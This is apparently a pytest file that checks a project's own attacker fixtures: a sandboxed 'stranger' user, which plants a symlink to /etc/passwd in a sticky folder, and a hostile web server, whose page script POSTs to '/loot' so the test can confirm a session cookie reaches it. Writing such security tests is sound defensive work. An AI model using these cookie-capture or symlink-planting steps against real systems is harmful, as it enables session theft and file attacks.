"""The attackers are what they seem to be: an attack that cannot succeed anywhere proves nothing."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.attacks.hostile import Hostile
from tests.attacks.stranger import Stranger, StrangerError
from tests.browser.serving import Site


def whoami() -> list[object]:
    import os

    return [os.getresuid(), os.getresgid(), os.getgroups()]


def read(path: str) -> str:
    with open(path) as file:
        return file.read()


def link(path: str, target: str) -> None:
    import os

    os.symlink(target, path)


def fail() -> None:
    raise ValueError("no error of the system")


def test_stranger_has_no_rights_of_ours(stranger: Stranger) -> None:
    assert stranger.uid != os.geteuid()
    assert stranger.run(whoami) == [[stranger.uid] * 3, [stranger.gid] * 3, []]


def test_stranger_reads_what_is_open_to_all(stranger: Stranger, open_folder: Path) -> None:
    (open_folder / "open").write_text("for all")
    (open_folder / "closed").touch(0o600)

    assert stranger.run(read, open_folder / "open") == "for all"
    with pytest.raises(PermissionError):
        stranger.run(read, open_folder / "closed")
    with pytest.raises(PermissionError):
        stranger.run(link, open_folder / "link", "/etc/passwd")


def test_stranger_plants_links_in_a_sticky_folder(stranger: Stranger, sticky_folder: Path) -> None:
    stranger.run(link, sticky_folder / "link", "/etc/passwd")

    assert (sticky_folder / "link").lstat().st_uid == stranger.uid


def test_stranger_reports_what_went_wrong(stranger: Stranger) -> None:
    with pytest.raises(StrangerError, match="no error of the system"):
        stranger.run(fail)
    assert stranger.run(whoami)


def test_hostile_server_gets_what_a_browser_sends(victim: Page, site: Site, hostile: Hostile) -> None:
    """A cookie of one port is sent to all ports of its host."""
    victim.context.add_cookies([{"name": "session", "value": "precious", "url": site.url}])
    victim.goto(
        hostile.page('fetch("/loot", {method: "POST", body: location.href}).then(() => document.title = "done")')
    )
    victim.wait_for_function("document.title === 'done'")
    victim.context.clear_cookies(name="session")

    assert any("session=precious" in one for one in hostile.loot)
    assert hostile.loot[-1].startswith(hostile.url)
